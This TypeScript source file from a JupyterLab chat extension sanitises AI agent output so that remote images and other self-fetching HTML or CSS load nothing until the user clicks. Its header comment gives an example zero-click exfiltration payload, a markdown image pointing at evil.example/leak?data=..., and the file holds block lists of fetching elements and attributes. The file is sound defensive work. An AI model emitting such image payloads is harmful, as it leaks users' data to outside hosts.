/**
 * Agent output may not make the browser fetch anything by itself: a remote image in an
 * answer (`![x](https://evil.example/leak?data=...)`) would be a zero-click leak. Sanitised
 * HTML passes through `blockRemoteLoads` before it reaches a live document: an image whose
 * source is a data:image or attachment: URL stays, any other becomes a placeholder (its alt
 * text, its URL as text, a Load button), and whatever else would fetch by itself goes.
 */

import { IRenderMime } from '@jupyterlab/rendermime';

/** The placeholder of an image not loaded; `data-src` and `data-alt` say what it was. */
export const PLACEHOLDER = 'jp-AgenstraChat-image';

/** Only what URL parsers strip may come first: after U+00A0, say, the URL would be relative. */
const SAFE_SOURCE = /^[\x00-\x20]*(data:image\/|attachment:)/i;
/** Elements that fetch by themselves (JupyterLab's sanitiser drops them already). */
const FETCHING = 'iframe, frame, frameset, object, embed, applet, portal, link, meta, base, style, script, svg';
/** Attributes that fetch by themselves whatever their element. */
const DROPPED = new Set(['srcset', 'imagesrcset', 'background', 'lowsrc', 'dynsrc', 'data', 'xlink:href']);
/** CSS that can fetch: url(), image-set(), image(), @import; escapes could hide them. */
const FETCHING_CSS = /url\s*\(|image(-set)?\s*\(|@import|\\/i;

/** A sanitiser that runs `sanitizer`, then `blockRemoteLoads`, on the same string. */
export function withoutRemoteLoads(sanitizer: IRenderMime.ISanitizer): IRenderMime.ISanitizer {
  return {
    sanitize: (dirty, options) => blockRemoteLoads(sanitizer.sanitize(dirty, options)),
    getAutolink: () => sanitizer.getAutolink?.() ?? true,
    allowNamedProperties: sanitizer.allowNamedProperties,
    allowCommandLinker: false
  };
}

/** `html` with nothing left in it that fetches before a click. */
export function blockRemoteLoads(html: string): string {
  // A template's content belongs to an inert document: parsing it there loads nothing.
  const template = document.createElement('template');
  template.innerHTML = html;
  neutralise(template.content);
  return template.innerHTML;
}

function neutralise(root: DocumentFragment): void {
  root.querySelectorAll(FETCHING).forEach(element => element.remove());
  root.querySelectorAll('*').forEach(element => {
    const src = element.getAttribute('src');
    if (element.localName === 'img' && src !== null && !SAFE_SOURCE.test(src)) {
      element.replaceWith(placeholder(element, src));
      return;
    }
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? '';
      if (
        DROPPED.has(name) ||
        ((name === 'src' || name === 'poster') && !SAFE_SOURCE.test(value)) ||
        (name === 'href' && element.localName !== 'a' && element.localName !== 'area') ||
        (name === 'style' && FETCHING_CSS.test(value)) ||
        name.startsWith('data-commandlinker-') // a click would run a JupyterLab command
      ) {
        element.removeAttribute(name);
      }
    }
  });
}

function placeholder(img: Element, src: string): HTMLElement {
  const make = (tag: string, className: string, text: string): HTMLElement => {
    const element = img.ownerDocument.createElement(tag);
    element.className = className;
    element.textContent = text;
    return element;
  };
  const alt = img.getAttribute('alt') ?? '';
  const box = make('span', PLACEHOLDER, '');
  box.dataset.src = src;
  box.dataset.alt = alt;
  box.title = 'Image not loaded: agent output loads nothing without a click';
  const button = make('button', 'jp-Button jp-mod-minimal jp-AgenstraChat-imageLoad', 'Load image');
  button.setAttribute('type', 'button');
  box.append(
    make('span', 'jp-AgenstraChat-imageAlt', alt || 'Image'),
    make('code', 'jp-AgenstraChat-imageUrl', src),
    button
  );
  return box;
}

/** The Load buttons of the placeholders under `root`: each puts its image in, on a click. */
export function enableImageLoading(root: HTMLElement): void {
  root.querySelectorAll<HTMLElement>(`.${PLACEHOLDER}[data-src]`).forEach(box => {
    box.querySelector('button')?.addEventListener('click', () => {
      const img = document.createElement('img');
      img.alt = box.dataset.alt ?? '';
      img.src = box.dataset.src ?? '';
      box.replaceWith(img);
    });
  });
}
